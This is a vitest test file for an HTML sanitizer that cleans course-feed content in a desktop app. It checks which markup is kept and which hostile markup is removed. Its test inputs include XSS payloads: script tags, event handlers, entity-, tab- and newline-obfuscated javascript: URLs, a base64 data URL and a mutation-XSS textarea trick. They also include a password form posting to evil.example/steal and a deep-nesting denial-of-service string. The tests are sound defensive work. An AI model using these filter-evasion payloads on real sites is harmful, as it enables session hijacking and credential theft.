import { describe, expect, it } from 'vitest';
import { sanitizeFeedHtml } from '../../../electron/core/sync/sanitize-email';

const BASE = 'https://mechanicalmooc.wordpress.com/2013/10/21/week-1/';
const clean = (html: string): string => sanitizeFeedHtml(html, BASE);

describe('sanitizeFeedHtml: what a learner keeps', () => {
  it('keeps text structure, headings, lists, tables, quotes and code', () => {
    const html =
      '<h2>Week 1</h2><p>Read <em>chapter</em> <strong>one</strong>.</p>' +
      '<ol start="3"><li>a</li></ol><ul><li>b</li></ul>' +
      '<table><tr><th scope="col">x</th></tr><tr><td colspan="2">1</td></tr></table>' +
      '<blockquote>quote</blockquote><pre><code>print("hi")</code></pre><p>Press <kbd>Ctrl</kbd></p>';
    expect(clean(html)).toBe(
      '<h2>Week 1</h2><p>Read <em>chapter</em> <strong>one</strong>.</p>' +
        '<ol start="3"><li>a</li></ol><ul><li>b</li></ul>' +
        '<table><tr><th scope="col">x</th></tr><tr><td colspan="2">1</td></tr></table>' +
        '<blockquote>quote</blockquote><pre><code>print("hi")</code></pre><p>Press <kbd>Ctrl</kbd></p>',
    );
  });

  it('makes links absolute and safe to open', () => {
    const out = clean(
      '<a href="../../22/week-2/" target="_blank" rel="opener" title="next">next</a>',
    );
    expect(out).toBe(
      '<a rel="noopener noreferrer" href="https://mechanicalmooc.wordpress.com/2013/10/22/week-2/" title="next">next</a>',
    );
    expect(clean('<a href="mailto:team@example.org">mail</a>')).toContain(
      'href="mailto:team@example.org"',
    );
  });

  it('keeps images with absolute http(s) sources, alt text and numeric sizes', () => {
    const out = clean(
      '<figure><img src="/files/graph.png" alt="A graph" width="300" height="50%" onload="x()"><figcaption>Fig 1</figcaption></figure>',
    );
    expect(out).toBe(
      '<figure><img src="https://mechanicalmooc.wordpress.com/files/graph.png" alt="A graph" width="300" /><figcaption>Fig 1</figcaption></figure>',
    );
  });

  it('keeps only a language hint as a class, on code and pre', () => {
    expect(clean('<pre class="brush: python; title: ; notranslate">x = 1</pre>')).toBe(
      '<pre class="language-python">x = 1</pre>',
    );
    expect(clean('<code class="language-js hljs evil">f()</code>')).toBe(
      '<code class="language-js">f()</code>',
    );
    expect(clean('<p class="language-js">p</p>')).toBe('<p>p</p>');
    expect(clean('<pre class="big red">x</pre>')).toBe('<pre>x</pre>');
  });

  it('turns an embedded video into a link', () => {
    const relative = clean('<p><iframe src="//player.example.org/v?a=1&amp;b=2"></iframe></p>');
    expect(relative).toContain('href="https://player.example.org/v?a=1&amp;b=2"');
    const out = clean(
      '<iframe src="https://www.youtube.com/embed/abc" width="560" onload="x()">fallback</iframe>',
    );
    expect(out).toBe(
      '<a rel="noopener noreferrer" href="https://www.youtube.com/embed/abc">Embedded content: https://www.youtube.com/embed/abc</a>',
    );
  });
});

describe('sanitizeFeedHtml: what hostile HTML loses', () => {
  it('drops scripts, styles and their content', () => {
    const out = clean(
      '<p>a</p><script>alert(1)</script><style>body{display:none}</style><noscript><img src=x></noscript><p>b</p>',
    );
    expect(out).toBe('<p>a</p><p>b</p>');
  });

  it('drops event handlers and style attributes', () => {
    const out = clean(
      '<p style="color:red" onclick="steal()" id="x">hi</p><img src="https://x.org/i.png" onerror="alert(1)">',
    );
    expect(out).toBe('<p>hi</p><img src="https://x.org/i.png" />');
  });

  it.each([
    ['plain', 'javascript:alert(1)'],
    ['mixed case', 'JaVaScRiPt:alert(1)'],
    ['entity-encoded', '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'],
    ['hex entities with a tab', 'jav&#x09;ascript:alert(1)'],
    ['newline inside', 'java\nscript:alert(1)'],
    ['leading spaces', '   javascript:alert(1)'],
    ['named entity colon', 'javascript&colon;alert(1)'],
    ['vbscript', 'vbscript:msgbox(1)'],
    ['data URL', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ])('drops a %s script URL from links', (_name, href) => {
    const out = clean(`<a href="${href}">click</a>`);
    expect(out).toBe('<a rel="noopener noreferrer">click</a>');
  });

  it('drops images with data:, javascript: or no usable source', () => {
    expect(clean('<p>x<img src="data:image/png;base64,AAAA" alt="d"></p>')).toBe('<p>x</p>');
    expect(clean('<p>x<img src="javascript:alert(1)"></p>')).toBe('<p>x</p>');
    expect(clean('<p>x<img alt="no src"></p>')).toBe('<p>x</p>');
  });

  it('drops frames without a safe source, objects, embeds and svg', () => {
    const out = clean(
      '<p>a</p><iframe src="javascript:alert(1)">f</iframe><object data="x.swf"><param name="a">o</object>' +
        '<embed src="x.swf"><svg><script>alert(1)</script><text>s</text></svg><math><mi>m</mi></math><p>b</p>',
    );
    expect(out).toBe('<p>a</p><p>b</p>');
  });

  it('drops forms and their controls but keeps surrounding text', () => {
    const out = clean(
      '<form action="https://evil.example/steal"><p>Your password:</p><input name="pw"><button>Go</button></form>',
    );
    expect(out).toBe('<p>Your password:</p>');
  });

  it('does not let a mis-nested textarea smuggle markup', () => {
    const out = clean('<svg><textarea><img src=x onerror=alert(1)></textarea></svg><p>ok</p>');
    expect(out).not.toMatch(/onerror|<img/);
    expect(out).toContain('<p>ok</p>');
  });

  it('drops meta refresh, base and link elements', () => {
    const out = clean(
      '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="https://evil.example/"><link rel="stylesheet" href="x.css"><p>t</p>',
    );
    expect(out).toBe('<p>t</p>');
  });

  it('shows absurdly deep nesting as plain text instead of freezing', () => {
    const depth = 50_000;
    const html = `${'<div>'.repeat(depth)}deep <script>alert(1)</script>&amp; safe${'</div>'.repeat(depth)}`;
    const out = clean(html);
    expect(out).toMatch(/^<p>deep alert\(1\) &amp; safe<\/p>$/);
    const normal = `${'<div>'.repeat(20)}fine${'</div>'.repeat(20)}`;
    expect(clean(normal)).toBe(normal);
  });

  it('returns an empty string for empty input', () => {
    expect(clean('')).toBe('');
  });
});
